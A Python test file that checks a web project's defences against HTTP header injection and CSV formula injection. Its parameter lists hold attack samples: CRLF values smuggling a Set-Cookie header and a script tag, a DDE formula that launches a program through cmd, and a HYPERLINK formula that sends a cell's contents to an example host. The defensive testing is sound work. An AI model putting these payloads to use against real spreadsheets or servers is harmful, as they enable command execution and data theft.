"""An answer as it is written to the wire, and tables as they are opened in spreadsheet programs."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fonds.web.answers import Answer, Exchange
from fonds.web.drawn import as_csv, in_a_cell


@pytest.mark.parametrize("value", [b"a\r\nSet-Cookie: x=y", b"a\nb", b"a\rb", b"a\0b", b"a\r\n\r\n<script>"])
@pytest.mark.parametrize("name", [b"location", b"link", b"content-disposition", b"etag"])
def test_a_header_with_a_line_end_is_never_sent(name: bytes, value: bytes) -> None:
    with pytest.raises(ValueError, match="line end"):
        Answer(303, ((name, value),)).lines()
    with pytest.raises(ValueError, match="line end"):
        Answer(303, ((value, b"x"),)).lines()


@given(st.lists(st.tuples(st.just(b"x-a"), st.binary(max_size=20)), max_size=4))
def test_headers_are_as_many_lines_as_there_are(headers: list[tuple[bytes, bytes]]) -> None:
    answer = Answer(200, tuple(headers), b"body")
    try:
        lines = answer.lines().split(b"\r\n")
    except ValueError:
        assert any(set(value) & {0, 10, 13} for _, value in headers)
    else:
        assert sum(each.startswith(b"x-a: ") for each in lines) == len(headers)
        assert lines[-2:] == [b"", b""]


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://a.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "=\u202e",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_table_is_run_by_a_spreadsheet_program(formula: str) -> None:
    table = as_csv(Exchange("/timeline.csv"), "timeline", ("a", "b"), [(formula, 1.5)]).body.decode()
    (row,) = list(csv.reader(io.StringIO(table, newline="")))[1:]
    assert row == [f"'{formula}", "1.5"]


@given(st.text(min_size=1))
def test_a_cell_says_what_the_data_say_but_for_an_apostrophe(text: str) -> None:
    shown = str(in_a_cell(text))
    assert shown.removeprefix("'") == text.removeprefix("'")
    assert shown[0] not in "=@\t\r"


@pytest.mark.parametrize("value", ["-0044-03-15", "-1.5", "+3", "-0044~", "a=b", "'", "", -3, None])
def test_numbers_and_dates_stay_as_they_are(value: object) -> None:
    assert in_a_cell(value) == value
